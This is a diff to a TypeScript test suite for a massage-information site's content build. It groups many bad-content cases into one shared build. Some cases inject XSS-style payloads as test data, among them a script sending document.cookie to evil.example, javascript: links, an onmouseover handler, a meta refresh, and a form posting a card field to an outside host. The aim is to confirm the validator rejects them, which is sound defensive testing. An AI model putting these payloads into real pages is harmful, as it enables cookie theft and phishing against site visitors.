@@ -22,6 +22,11 @@ interface Case {
   file: string;
   edit: (text: string) => string;
   expect: RegExp[];
+  /**
+   * Problems the site checks find after every entry has loaded are all reported
+   * at once, so these cases share one build (each edit on its own line of text).
+   */
+  together?: true;
 }
 
 /** A case that adds, renames or writes files itself, in the copied content folder. */
@@ -46,32 +51,32 @@ const CASES: Case[] = [
   { name: 'invalid enum value', file: TYPE, edit: replace('prescription: not-needed', 'prescription: sometimes'), expect: [/swedish-massage\.md/, /"prescription" must be one of/] },
   { name: 'invalid date', file: TYPE, edit: replace('lastReviewed: 2026-11-23', 'lastReviewed: 2026-13-45'), expect: [/swedish-massage\.md → lastReviewed: "2026-13-45" is not a real date/, /Fix: write the date as YYYY-MM-DD/] },
   { name: 'summary too long', file: TYPE, edit: replace(/^summary: .*$/m, `summary: ${'Very long. '.repeat(30)}`), expect: [/swedish-massage\.md/, /summary/, /Fix:/] },
-  { name: 'unknown reference', file: TYPE, edit: replace('condition: low-back-pain', 'condition: lower-back-pain'), expect: [/content\/types\/swedish-massage\.md → helps\[0\]\.condition/, /"lower-back-pain" is not an entry of conditions/, /Fix: use an id that exists in content\/conditions\//] },
-  { name: 'unknown source', file: TYPE, edit: replace('sources: [nccih-massage, cochrane', 'sources: [made-up-2020, cochrane'), expect: [/swedish-massage\.md → sources\[0\]/, /"made-up-2020" is not an entry of sources/, /content\/sources\.yaml/] },
+  { name: 'unknown reference', file: TYPE, edit: replace('condition: low-back-pain', 'condition: lower-back-pain'), expect: [/content\/types\/swedish-massage\.md → helps\[0\]\.condition/, /"lower-back-pain" is not an entry of conditions/, /Fix: use an id that exists in content\/conditions\//], together: true },
+  { name: 'unknown source', file: TYPE, edit: replace('sources: [nccih-massage, cochrane', 'sources: [made-up-2020, cochrane'), expect: [/swedish-massage\.md → sources\[0\]/, /"made-up-2020" is not an entry of sources/, /content\/sources\.yaml/], together: true },
   { name: 'evidence grade without a source', file: TYPE, edit: replace('    sources: [cochrane-2015-low-back-pain]\nrelated', '    sources: []\nrelated'), expect: [/swedish-massage\.md/, /an evidence grade needs at least one source/] },
   { name: 'invalid evidence grade', file: TYPE, edit: replace('grade: moderate', 'grade: excellent'), expect: [/swedish-massage\.md/, /grade/, /must be one of/] },
   { name: 'pressure range upside down', file: TYPE, edit: replace('pressure: { min: light, max: medium }', 'pressure: { min: deep, max: light }'), expect: [/swedish-massage\.md/, /pressure\.min must not be firmer than pressure\.max/] },
   { name: 'focus with no region', file: 'types/deep-tissue-massage.md', edit: replace('  regions: [lower-back, legs]', '  regions: []'), expect: [/deep-tissue-massage\.md/, /focus needs fullBody: true or at least one region id/] },
-  { name: 'dead internal link', file: TYPE, edit: replace('(/techniques/effleurage/)', '(/techniques/efleurage/)'), expect: [/content\/types\/swedish-massage\.md → body line \d+: the link \/techniques\/efleurage\/ leads to no page/, /Fix: check the slug/] },
-  { name: 'dead #fragment', file: 'conditions/sciatica.md', edit: replace('(/types/swedish-massage/#evidence)', '(/types/swedish-massage/#risks)'), expect: [/sciatica\.md → body line \d+/, /names a section that \/types\/swedish-massage\/ does not have/, /Fix: use one of: .*#safety/] },
-  { name: 'duplicate alias', file: 'types/deep-tissue-massage.md', edit: replace('aliases: [deep tissue]', 'aliases: [deep tissue, classic massage]'), expect: [/(deep-tissue|swedish)-massage\.md → aliases: the alias "classic massage" .* is also an alias of "(swedish|deep-tissue)-massage"/, /Fix: remove "classic massage"/] },
-  { name: 'alias equal to another slug', file: 'conditions/sciatica.md', edit: replace('aliases: []', 'aliases: [low back pain]'), expect: [/sciatica\.md → aliases: the alias "low back pain" .* is the slug of "low-back-pain"/] },
-  { name: 'missing required section', file: TYPE, edit: replace('## What is it? { #what-it-is }', '## What is it?'), expect: [/swedish-massage\.md → section #what-it-is: section #what-it-is is missing/, /Fix: add a heading/] },
-  { name: 'section id the layout reserves', file: TYPE, edit: replace('## How is it different? { #differences }', '## How is it different? { #differences }\n\n## Is it safe? { #safety }\n\nText.'), expect: [/section #safety is reserved/, /Fix: rename the heading/] },
-  { name: 'image without alt text', file: TYPE, edit: replace('Relaxed, perhaps a little sore.', 'Relaxed.\n\n![](/favicon.svg)'), expect: [/swedish-massage\.md → body line \d+: the image \/favicon\.svg has no alt text/, /Fix: describe what the image shows/] },
+  { name: 'dead internal link', file: TYPE, edit: replace('(/techniques/effleurage/)', '(/techniques/efleurage/)'), expect: [/content\/types\/swedish-massage\.md → body line \d+: the link \/techniques\/efleurage\/ leads to no page/, /Fix: check the slug/], together: true },
+  { name: 'dead #fragment', file: 'conditions/sciatica.md', edit: replace('(/types/swedish-massage/#evidence)', '(/types/swedish-massage/#risks)'), expect: [/sciatica\.md → body line \d+/, /names a section that \/types\/swedish-massage\/ does not have/, /Fix: use one of: .*#safety/], together: true },
+  { name: 'duplicate alias', file: 'types/deep-tissue-massage.md', edit: replace('aliases: [deep tissue]', 'aliases: [deep tissue, classic massage]'), expect: [/(deep-tissue|swedish)-massage\.md → aliases: the alias "classic massage" .* is also an alias of "(swedish|deep-tissue)-massage"/, /Fix: remove "classic massage"/], together: true },
+  { name: 'alias equal to another slug', file: 'conditions/sciatica.md', edit: replace('aliases: []', 'aliases: [low back pain]'), expect: [/sciatica\.md → aliases: the alias "low back pain" .* is the slug of "low-back-pain"/], together: true },
+  { name: 'missing required section', file: TYPE, edit: replace('## What is it? { #what-it-is }', '## What is it?'), expect: [/swedish-massage\.md → section #what-it-is: section #what-it-is is missing/, /Fix: add a heading/], together: true },
+  { name: 'section id the layout reserves', file: TYPE, edit: replace('## How is it different? { #differences }', '## How is it different? { #differences }\n\n## Is it safe? { #safety }\n\nText.'), expect: [/section #safety is reserved/, /Fix: rename the heading/], together: true },
+  { name: 'image without alt text', file: TYPE, edit: replace('Relaxed, perhaps a little sore.', 'Relaxed.\n\n![](/favicon.svg)'), expect: [/swedish-massage\.md → body line \d+: the image \/favicon\.svg has no alt text/, /Fix: describe what the image shows/], together: true },
   { name: 'source with neither URL nor identifier', file: 'sources.yaml', edit: replace('  url: https://www.nhs.uk/conditions/sciatica/\n', ''), expect: [/sources/, /nhs-sciatica|url/, /needs a url, doi or pmid/] },
   { name: 'malformed DOI', file: 'sources.yaml', edit: replace('doi: 10.1002/14651858.CD001929.pub3', 'doi: CD001929'), expect: [/sources/, /a DOI looks like 10\./] },
   { name: 'malformed YAML', file: TYPE, edit: replace('aliases: [classic massage, relaxation massage]', 'aliases: [classic massage, relaxation massage'), expect: [/swedish-massage\.md/] },
   { name: 'MDX syntax error', file: 'guides/safety.mdx', edit: replace('People with a fever.', 'People with <strong>a fever.'), expect: [/safety\.mdx/] },
   { name: 'misused content component', file: 'guides/safety.mdx', edit: replace('People with a fever.', 'People with a fever.\n\n<EvidenceTable rows="all" />'), expect: [/safety/, /EvidenceTable/] },
-  { name: 'content component in a Markdown file', file: 'conditions/sciatica.md', edit: replace('(/types/swedish-massage/#evidence)', '(/types/swedish-massage/#evidence)\n\n<EvidenceBadge grade="limited" />'), expect: [/sciatica\.md → body line \d+: <EvidenceBadge> is a component, and components work only in \.mdx files/, /Fix: rename the file to \.mdx and import EvidenceBadge/] },
-  { name: 'meta refresh in a Markdown body', file: 'conditions/sciatica.md', edit: replace('(/types/swedish-massage/#evidence)', '(/types/swedish-massage/#evidence)\n\n<meta http-equiv="refresh" content="0;url=https://evil.example/">'), expect: [/content\/conditions\/sciatica\.md → body line \d+: <meta> is raw HTML that changes what the page does/, /Fix: remove it: the layout writes every <meta> tag/] },
-  { name: 'event handler in an MDX body', file: 'guides/safety.mdx', edit: replace('People with a fever.', 'People with a <span onmouseover="steal()">fever</span>.'), expect: [/safety\.mdx → body line \d+: the onmouseover attribute would run JavaScript/, /Fix: remove onmouseover=/] },
+  { name: 'content component in a Markdown file', file: 'conditions/sciatica.md', edit: (t) => `${t}\n<EvidenceBadge grade="limited" />\n`, expect: [/sciatica\.md → body line \d+: <EvidenceBadge> is a component, and components work only in \.mdx files/, /Fix: rename the file to \.mdx and import EvidenceBadge/], together: true },
+  { name: 'meta refresh in a Markdown body', file: 'conditions/sciatica.md', edit: (t) => `${t}\n<meta http-equiv="refresh" content="0;url=https://evil.example/">\n`, expect: [/content\/conditions\/sciatica\.md → body line \d+: <meta> is raw HTML that changes what the page does/, /Fix: remove it: the layout writes every <meta> tag/], together: true },
+  { name: 'event handler in an MDX body', file: 'guides/safety.mdx', edit: replace('People with a fever.', 'People with a <span onmouseover="steal()">fever</span>.'), expect: [/safety\.mdx → body line \d+: the onmouseover attribute would run JavaScript/, /Fix: remove onmouseover=/], together: true },
   { name: 'javascript: source url', file: 'sources.yaml', edit: replace('url: https://www.nhs.uk/conditions/sciatica/', 'url: "javascript:alert(1)"'), expect: [/sources/, /a source url is a web address starting with https:\/\//] },
-  { name: 'the same condition twice in helps', file: TYPE, edit: replace('    sources: [cochrane-2015-low-back-pain]\nrelated', '    sources: [cochrane-2015-low-back-pain]\n  - condition: low-back-pain\n    grade: limited\n    sources: [cochrane-2015-low-back-pain]\nrelated'), expect: [/swedish-massage\.md → helps\[1\]\.condition: "low-back-pain" is graded twice/, /Fix: keep one claim per condition/] },
-  { name: 'an entry related to itself', file: TYPE, edit: replace('related: [deep-tissue-massage]', 'related: [deep-tissue-massage, swedish-massage]'), expect: [/swedish-massage\.md → related\[1\]: "swedish-massage" lists itself as related/, /Fix: remove "swedish-massage" from related/] },
+  { name: 'the same condition twice in helps', file: 'types/deep-tissue-massage.md', edit: replace('  - condition: sciatica', '  - condition: low-back-pain'), expect: [/deep-tissue-massage\.md → helps\[1\]\.condition: "low-back-pain" is graded twice/, /Fix: keep one claim per condition/], together: true },
+  { name: 'an entry related to itself', file: TYPE, edit: replace('related: [deep-tissue-massage]', 'related: [deep-tissue-massage, swedish-massage]'), expect: [/swedish-massage\.md → related\[1\]: "swedish-massage" lists itself as related/, /Fix: remove "swedish-massage" from related/], together: true },
   { name: 'invalid date in a Windows-saved (CRLF) file', file: TYPE, edit: (t) => replace('lastReviewed: 2026-11-23', 'lastReviewed: 2026-13-45')(t).replace(/\n/g, '\r\n'), expect: [/swedish-massage\.md → lastReviewed: "2026-13-45" is not a real date/, /Fix: write the date as YYYY-MM-DD/] },
-  { name: 'review date in the future', file: TYPE, edit: replace('lastReviewed: 2026-11-23', 'lastReviewed: 2099-01-01'), expect: [/swedish-massage\.md → lastReviewed: 2099-01-01 is after the build date/, /Fix: write the date the review was done, which cannot be in the future/] },
+  { name: 'review date in the future', file: TYPE, edit: replace('lastReviewed: 2026-11-23', 'lastReviewed: 2099-01-01'), expect: [/swedish-massage\.md → lastReviewed: 2099-01-01 is after the build date/, /Fix: write the date the review was done, which cannot be in the future/], together: true },
   { name: 'price date in the future', file: TYPE, edit: replace('related: [deep-tissue-massage]', `related: [deep-tissue-massage]\n${prices('2099-05-01', '{ minutes: 60, amount: 50 }')}`), expect: [/swedish-massage\.md → published: 2099-05-01 is after the build date/, /Fix: write the date the prices were published/] },
   { name: 'negative session length in a price', file: TYPE, edit: replace('related: [deep-tissue-massage]', `related: [deep-tissue-massage]\n${prices('2025-04-21', '{ minutes: -60, amount: 50 }')}`), expect: [/swedish-massage\.md/, /prices\.rates\.0\.minutes|prices\.rates\[0\]\.minutes/, /a session is at least 5 minutes/] },
   { name: 'absurd price', file: TYPE, edit: replace('related: [deep-tissue-massage]', `related: [deep-tissue-massage]\n${prices('2025-04-21', '{ minutes: 60, amount: 1e9 }')}`), expect: [/swedish-massage\.md/, /amount/, /a price per session is under 10,000/] },
@@ -79,10 +84,18 @@ const CASES: Case[] = [
   { name: 'a title of spaces', file: TYPE, edit: replace('title: Swedish massage', 'title: "     "'), expect: [/swedish-massage\.md/, /title/, /a title needs at least 3 characters of text, not only spaces/] },
   { name: 'an overlong title', file: TYPE, edit: replace('title: Swedish massage', `title: ${'Swedish massage '.repeat(8)}`), expect: [/swedish-massage\.md/, /title/, /a title is at most 90 characters/] },
   { name: 'a summary of spaces', file: TYPE, edit: replace(/^summary: .*$/m, `summary: "${' '.repeat(60)}"`), expect: [/swedish-massage\.md/, /summary/, /a summary needs at least 40 characters of text, not only spaces/] },
-  { name: 'relative link', file: 'conditions/sciatica.md', edit: replace('(/types/swedish-massage/#evidence)', '(types/swedish-massage)'), expect: [/sciatica\.md → body line \d+: the relative link types\/swedish-massage leads from \/conditions\/sciatica\/ to \/conditions\/sciatica\/types\/swedish-massage/, /Fix: write the link as a site path/] },
-  { name: 'dead reference-style link', file: TYPE, edit: replace('Relaxed, perhaps a little sore.', 'Relaxed, [see][s].\n\n[s]: /conditions/siatica/'), expect: [/swedish-massage\.md → body line \d+: the link \/conditions\/siatica\/ leads to no page/] },
-  { name: 'missing local image', file: TYPE, edit: replace('Relaxed, perhaps a little sore.', 'Relaxed.\n\n![A calf](/images/calf.png)'), expect: [/swedish-massage\.md → body line \d+: \/images\/calf\.png is not a file in public\//, /Fix: add the file as public\/images\/calf\.png/] },
-  { name: 'glossary article that is no page', file: 'glossary.yaml', edit: replace('article: /techniques/effleurage/', 'article: /techniques/efleurage/'), expect: [/glossary\.yaml → effleurage\.article: \/techniques\/efleurage\/ is no page/] },
+  { name: 'relative link', file: 'conditions/sciatica.md', edit: (t) => `${t}\nSee [the type](types/swedish-massage).\n`, expect: [/sciatica\.md → body line \d+: the relative link types\/swedish-massage leads from \/conditions\/sciatica\/ to \/conditions\/sciatica\/types\/swedish-massage/, /Fix: write the link as a site path/], together: true },
+  { name: 'dead reference-style link', file: TYPE, edit: (t) => `${t}\nRelaxed, [see][s].\n\n[s]: /conditions/siatica/\n`, expect: [/swedish-massage\.md → body line \d+: the link \/conditions\/siatica\/ leads to no page/], together: true },
+  { name: 'missing local image', file: TYPE, edit: (t) => `${t}\n![A calf](/images/calf.png)\n`, expect: [/swedish-massage\.md → body line \d+: \/images\/calf\.png is not a file in public\//, /Fix: add the file as public\/images\/calf\.png/], together: true },
+  { name: 'glossary article that is no page', file: 'glossary.yaml', edit: replace('article: /techniques/effleurage/', 'article: /techniques/efleurage/'), expect: [/glossary\.yaml → effleurage\.article: \/techniques\/efleurage\/ is no page/], together: true },
+  { name: 'comparison link to a type that does not exist', file: 'conditions/low-back-pain.md', edit: (t) => `${t}\nCompare [them](/compare/?t=swedish-massage&t=hot-stone-massage).\n`, expect: [/low-back-pain\.md → body line \d+: the link \/compare\/\?t=swedish-massage&t=hot-stone-massage compares "hot-stone-massage", which is not a type/, /Fix: use type slugs from content\/types\//], together: true },
+  { name: 'link to a non-ASCII heading by its ASCII form', file: 'conditions/low-back-pain.md', edit: (t) => `${t}\n## Café & spa options\n\nSee [spa options](#cafe-and-spa-options).\n`, expect: [/low-back-pain\.md → body line \d+: the link #cafe-and-spa-options names a section that \/conditions\/low-back-pain\/ does not have/, /Fix: use one of: .*#café--spa-options/], together: true },
+  { name: 'dead raw <a href> link', file: 'techniques/effleurage.md', edit: (t) => `${t}\nSee <a href="/conditions/siatica/">sciatica</a>.\n`, expect: [/effleurage\.md → body line \d+: the link \/conditions\/siatica\/ leads to no page/], together: true },
+  { name: 'javascript: link in a Markdown body', file: 'techniques/effleurage.md', edit: (t) => `${t}\n[Click](javascript:alert(document.cookie))\n`, expect: [/effleurage\.md → body line \d+: the link javascript:alert\(document\.cookie\)? uses the javascript: scheme/, /Fix: link to an https:\/\/ address/], together: true },
+  { name: '<script> in a Markdown body', file: 'techniques/stripping.md', edit: (t) => `${t}\n<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n`, expect: [/stripping\.md → body line \d+: <script> is raw HTML that changes what the page does/, /Fix: remove it: article pages run no JavaScript/], together: true },
+  { name: '<iframe> in a Markdown body', file: 'techniques/stripping.md', edit: (t) => `${t}\n<iframe src="https://evil.example/"></iframe>\n`, expect: [/stripping\.md → body line \d+: <iframe> is raw HTML/, /Fix: remove it and link to the page instead/], together: true },
+  { name: '<form> in a Markdown body', file: 'regions/legs.md', edit: (t) => `${t}\n<form action="https://evil.example/"><input name="card"></form>\n`, expect: [/legs\.md → body line \d+: <form> is raw HTML/, /Fix: remove it and link to the page that holds the form/], together: true },
+  { name: '<style> in a Markdown body', file: 'regions/legs.md', edit: (t) => `${t}\n<style>main { display: none }</style>\n`, expect: [/legs\.md → body line \d+: <style> is raw HTML/, /Fix: remove it: styles belong in src\/styles\/global\.css/], together: true },
   { name: 'glossary link that is not a site path', file: 'glossary.yaml', edit: replace('article: /techniques/effleurage/', 'article: techniques/effleurage'), expect: [/glossary/, /article is a site path/] },
 ];
 
@@ -248,10 +261,25 @@ test('a renamed entry that keeps its old slug as an alias keeps every published 
   assert.equal(answers['/og/types/swedish-massage.png'], 'png');
 });
 
+const applyEdit = (c: Case) => (root: string) => writeFileSync(join(root, c.file), c.edit(readFileSync(join(root, c.file), 'utf8')));
+
 const ALL: FileCase[] = [
-  ...CASES.map((c) => ({ name: c.name, expect: c.expect, prepare: (root: string) => writeFileSync(join(root, c.file), c.edit(readFileSync(join(root, c.file), 'utf8'))) })),
+  ...CASES.filter((c) => !c.together).map((c) => ({ name: c.name, expect: c.expect, prepare: applyEdit(c) })),
   ...FILE_CASES,
 ];
+
+const TOGETHER = CASES.filter((c) => c.together);
+let shared: ReturnType<typeof build> | undefined;
+const sharedBuild = () => (shared ??= build((root) => TOGETHER.forEach((c) => applyEdit(c)(root))));
+
+for (const c of TOGETHER) {
+  test(`bad content stops the build: ${c.name} (one build with ${TOGETHER.length} problems)`, () => {
+    const { status, output, oldSiteIntact } = sharedBuild();
+    assert.notEqual(status, 0, `the build passed:\n${output.slice(-2000)}`);
+    for (const pattern of c.expect) assert.match(output, pattern, output.slice(-6000));
+    assert.equal(oldSiteIntact, true, 'a failed build changed the old dist/ or left a staging folder');
+  });
+}
 
 for (const c of ALL) {
   test(`bad content stops the build: ${c.name}`, () => {
